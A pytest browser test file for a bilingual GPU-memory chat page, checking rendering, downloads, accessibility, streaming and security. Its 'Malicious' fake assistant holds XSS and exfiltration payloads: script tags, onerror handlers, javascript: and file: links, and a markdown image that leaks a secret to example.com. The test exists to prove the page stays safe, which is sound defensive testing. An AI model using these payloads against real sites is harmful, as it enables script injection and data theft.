"""The page in a real browser: questions in two languages, files, formulas, and not one request to anybody else."""

import json
import subprocess
import time
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from chat.events import Answer, Finished, Prose, ToolStarted
from chat.words import PAGE
from formulas.errors import BadInput
from tests.browsing import DERIVATION, PATIENCE, WORKING, ask, new_conversation, overflow, own, served, visit
from tests.commands import KB
from tests.fakes import RESULT, FakeAssistant

pytestmark = pytest.mark.slow


@pytest.mark.parametrize(
    ("locale", "language", "derivation"), [("en-US", "en", "Derivation"), ("zh-CN", "zh", "推导过程")]
)
def test_a_question_is_answered_in_full(
    browser: Any, address: str, locale: str, language: str, derivation: str, tmp_path: Any
) -> None:
    words = PAGE[language]
    with visit(browser, address, locale) as page:
        assert page.locator("#kb-ask textarea").get_attribute("placeholder") == words["placeholder"]
        assert page.locator("#kb-example_1").inner_text() == words["example_1"]
        assert words["hero"].splitlines()[0].lstrip("# ") in page.locator("#kb-invite").inner_text()

        page.click("#kb-example_1")
        page.wait_for_selector(".kb-file")
        assert page.locator(".kb-question").inner_text() == words["example_1"]
        assert page.locator("#kb-new").inner_text().strip() == words["new"]
        assert page.locator(".kb-verdict").first.is_visible()
        assert page.locator(".kb-picture svg.kb-bar").count() > 1
        assert page.locator(".kb-picture svg.kb-bar title").first.text_content()

        assert page.locator(".katex").count() == 0, "the derivation is folded"
        assert page.locator(DERIVATION).inner_text().strip() == derivation
        page.locator(DERIVATION).click()
        page.wait_for_selector(".katex-display")
        assert page.locator(".katex-error").count() == 0
        assert not page.locator(".kb-tool pre").first.is_visible()
        page.locator(".kb-foot details:has(.kb-tool) summary").click()
        assert page.locator(".kb-tool pre").first.is_visible()

        page.locator(".kb-foot summary").last.click()
        links = page.locator(".kb-foot li a").evaluate_all("links => links.map(link => link.href)")
        assert links
        assert all(link.startswith(("https://", "http://")) for link in links)

        files = {}
        for link in page.locator(".kb-file[download]").all():
            with page.expect_download() as coming:
                link.click()
            path = tmp_path / coming.value.suggested_filename
            coming.value.save_as(path)
            files[path.suffix] = path.read_text(encoding="utf-8")
        assert words["example_1"] in files[".md"]
        assert "$$" in files[".md"]
        assert files[".tex"].startswith("\\documentclass")
        assert "\\begin{aligned}" in files[".tex"]
        assert files[".tex"].rstrip().endswith("\\end{document}")
        assert "$$" not in files[".tex"]
        assert json.loads(files[".json"])["question"] == words["example_1"]


@pytest.mark.parametrize(("locale", "scheme"), [("en-US", "dark"), ("zh-CN", "light")])
def test_a_phone_needs_no_sideways_scrolling(browser: Any, address: str, locale: str, scheme: str) -> None:
    with visit(browser, address, locale, viewport={"width": 390, "height": 844}, color_scheme=scheme) as page:
        assert overflow(page) <= 0
        page.click("#kb-example_1")
        page.wait_for_selector(".kb-file")
        for fold in [*page.locator("#kb-chat summary").all(), *page.locator(DERIVATION).all()]:
            fold.click()
        assert overflow(page) <= 0
        inside = page.locator("#kb-chat .bubble-wrap").evaluate("view => view.scrollWidth - view.clientWidth")
        assert inside <= 0
        question_box = page.locator("#kb-ask").bounding_box()
        assert question_box["y"] + question_box["height"] <= 844


@pytest.mark.parametrize("locale", ["en-US", "zh-CN"])
def test_the_tables_of_an_answer_show_every_column(browser: Any, address: str, locale: str) -> None:
    """At every width, each with an answer that was made at it: one visitor turns the screen and asks again."""
    with visit(browser, address, locale) as page:
        for width in (1200, 1080, 768, 390):
            page.set_viewport_size({"width": width, "height": 850})
            page.click("#kb-example_1")
            page.wait_for_selector(".kb-file")
            tables = page.locator("#kb-chat .md table")
            assert tables.count() == 1, "the layouts; in place of the breakdown's stands the picture"
            assert not {"total", "合计"} & set(tables.locator("strong").all_inner_texts())
            assert tables.first.locator("th").count() == 4
            for table in tables.all():
                assert table.evaluate("t => t.scrollWidth - t.clientWidth") <= 0, width
            new_conversation(page)


def test_the_keyboard_is_enough(browser: Any, address: str) -> None:
    with visit(browser, address) as page:
        assert page.evaluate("document.activeElement.tagName") == "TEXTAREA"
        page.keyboard.type(PAGE["en"]["example_1"])
        page.keyboard.press("Enter")
        page.wait_for_selector(".kb-file")
        fold = page.locator(DERIVATION)
        fold.focus()
        page.keyboard.press("Enter")
        page.wait_for_selector(".katex-display")
        assert fold.get_attribute("aria-expanded") == "true"
        unnamed = page.evaluate(
            "[...document.querySelectorAll('#kb-chat button, #kb-ask button, #kb-ask textarea')].filter(e =>"
            " !e.hidden && e.getAttribute('aria-hidden') !== 'true' && !e.closest('.top-panel') &&"
            " !(e.getAttribute('aria-label') || e.title || e.innerText.trim())).map(e => e.outerHTML.slice(0, 200))"
        )
        assert not unnamed


def test_long_and_empty_questions_do_not_choke_the_page(browser: Any, address: str) -> None:
    with visit(browser, address) as page:
        ask(page, "x" * 100_000)
        assert "100,000" in page.locator(".kb-question").last.inner_text()
        assert overflow(page) <= 0
        ask(page, "   ")
        assert page.locator("#kb-chat .bot-row").last.inner_text().strip()


class Malicious(FakeAssistant):
    """Words and sources as an attacker would like them."""

    def stream(self, question: str, conversation: Any, language: str | None = None) -> Iterator[Any]:
        text = (
            "![x](https://example.com/leak.png?q=secret) <img src='https://example.com/b.png'>"
            "<script>document.title='owned'</script> [click](javascript:document.title='owned')"
        )
        sources = [{"title": "<img src=x onerror=\"document.title='owned'\">", "url": "https://example.org/a"}]
        sources += [{"title": "bad", "url": url} for url in ("javascript:alert(1)", "data:text/html,x", "file:///etc")]
        facts = {"gpu": "<img src=x onerror=\"document.title='owned'\">${document.title='owned'}{{value}}"}
        cases = [{**case, "facts": facts} for case in RESULT["cases"]]
        yield Prose(text)
        yield Finished(Answer(question, "en", text, {**RESULT, "cases": cases, "sources": sources}))


def test_hostile_words_stay_words(browser: Any) -> None:
    from chat.page.app import build

    with served(build(Malicious())) as address:
        context = browser.new_context()
        page = context.new_page()
        arrived: list[str] = []
        page.on("response", lambda response: arrived.append(response.url))
        page.goto(address)
        page.wait_for_selector("#kb-example_1")
        ask(page, "<b>bold</b> ${document.title='owned'} {{value}} $$x$$ **y** 2*A100 3*A100")
        page.wait_for_selector(".kb-file")
        page.locator(".kb-foot summary").last.click()
        page.wait_for_timeout(500)
        assert page.title() == "VRAM KB"
        assert (
            page.locator(".kb-question").inner_text()
            == "<b>bold</b> ${document.title='owned'} {{value}} $$x$$ **y** 2*A100 3*A100"
        )
        assert page.locator(".kb-foot li a").evaluate_all("links => links.map(a => a.href)") == [
            "https://example.org/a"
        ]
        assert page.locator("a[href^='javascript:']").count() == 0
        assert not [url for url in arrived if not own(url, address)]
        context.close()


def test_a_failure_is_said_and_the_page_goes_on(browser: Any) -> None:
    from chat.page.app import build

    with served(build(FakeAssistant(fail=True))) as address, visit(browser, address) as page:
        ask(page, "will it fail?")
        assert "Something went wrong" in page.locator("#kb-chat .bot-row").last.inner_text()
        assert "scripted failure" not in page.content()
        assert page.locator(WORKING).count() == 0
        ask(page, "and again?")
        assert page.locator(".kb-question").count() == 2


class Slow(FakeAssistant):
    """Starts a tool, says a sentence, and takes a minute for the rest."""

    at_once = False

    def stream(self, question: str, conversation: Any, language: str | None = None) -> Iterator[Any]:
        time.sleep(1)
        yield ToolStarted("1", "estimate_memory", {"params": "70B"})
        time.sleep(1)
        yield Prose("The first sentence. ")
        for _ in range(600):
            time.sleep(0.1)
            yield Prose("")


def test_a_slow_answer_streams_and_can_be_stopped(browser: Any) -> None:
    from chat.page.app import build

    with served(build(Slow())) as address, visit(browser, address) as page:
        page.fill("#kb-ask textarea", "slowly")
        page.press("#kb-ask textarea", "Enter")
        page.wait_for_selector(f"{WORKING}:text('Working it out')")
        page.wait_for_selector(f"{WORKING}:text('Estimate the memory')")
        page.wait_for_selector("text=The first sentence.")
        assert page.locator(WORKING).count() == 0
        page.fill("#kb-ask textarea", "next")
        page.press("#kb-ask textarea", "Enter")
        page.wait_for_timeout(500)
        assert page.locator(".kb-question").all_inner_texts() == ["slowly"], "one question at a time"
        assert page.locator("#kb-ask textarea").input_value() == "next", "what was typed is not lost"
        page.click("#kb-ask .stop-button")
        page.wait_for_selector("text=Stopped.")
        page.wait_for_selector("#kb-ask .submit-button")
        page.press("#kb-ask textarea", "Enter")
        page.wait_for_function("document.querySelectorAll('.kb-question').length == 2")
        page.click("#kb-new")
        page.wait_for_selector("#kb-example_1")


def test_every_formula_renders_in_the_page(browser: Any) -> None:
    import gradio as gr

    from chat.page.app import MATH
    from formulas.library import library
    from formulas.notation import latex

    lines = [f"$${f.target.latex} = {latex(f.expr)}$$" for f in library().by_name.values()]
    assert lines
    with gr.Blocks() as page:
        gr.Markdown("\n\n".join(lines), latex_delimiters=MATH, elem_id="all")
    with served(page) as address:
        tab = browser.new_context().new_page()
        tab.goto(address)
        tab.wait_for_selector("#all .katex-display", timeout=PATIENCE)
        errors = tab.locator(".katex-error").evaluate_all("found => found.map(e => e.title + ' in ' + e.innerText)")
        assert not errors
        assert tab.locator("#all .katex-display").count() == len(lines)
        tab.context.close()


def test_other_machines_are_let_in_only_with_a_password() -> None:
    from chat.page.app import credentials

    assert credentials("127.0.0.1", None) is None
    assert credentials("0.0.0.0", "me:secret:with:colons") == ("me", "secret:with:colons")
    for host, auth in (("0.0.0.0", None), ("0.0.0.0", ""), ("127.0.0.1", "nobody"), ("::", "user:")):
        with pytest.raises(BadInput, match="auth"):
            credentials(host, auth)


def test_an_answer_is_a_typed_endpoint_too() -> None:
    from gradio_client import Client

    from chat.page.app import build

    with served(build(FakeAssistant())) as address:
        answer = Client(address, verbose=False).predict("Can I QLoRA a 70B model on 2×A100?", api_name="/ask")
    assert answer["verdict"] == "conditional"
    assert answer["answer"].startswith("**On 80 GB")


def test_the_command_serves_until_it_is_told_to_end() -> None:
    with subprocess.Popen([*KB, "chat", "--port", "0"], stdout=-1, stderr=-1, text=True) as running:
        try:
            assert running.stdout
            assert running.stderr
            address = running.stdout.readline().split()[2]
            assert httpx.get(address, trust_env=False).status_code == 200
        finally:
            # twice, as a launcher in the same group hands on what it got itself
            running.terminate()
            running.terminate()
        assert running.wait(60) == 0
        assert "Traceback" not in running.stderr.read()
